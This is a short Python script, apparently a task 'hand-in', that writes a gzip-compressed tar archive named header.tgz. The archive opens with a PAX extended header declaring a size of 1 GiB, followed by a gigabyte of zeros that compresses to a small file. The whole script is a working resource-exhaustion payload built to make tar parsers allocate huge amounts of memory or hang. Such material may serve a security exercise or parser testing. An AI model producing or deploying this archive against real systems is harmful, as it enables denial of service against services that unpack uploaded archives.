"""Writes the hand-in into the folder that is named; prints its name."""

from __future__ import annotations

import gzip
import sys
import tarfile

header = tarfile.TarInfo("././@PaxHeader")
header.type, header.size = tarfile.XHDTYPE, 1 << 30
with gzip.open(sys.argv[1] + "/header.tgz", "wb", 6) as out:
    out.write(header.tobuf(tarfile.USTAR_FORMAT))
    for _ in range(1 << 10):
        out.write(bytes(1 << 20))
print("header.tgz")
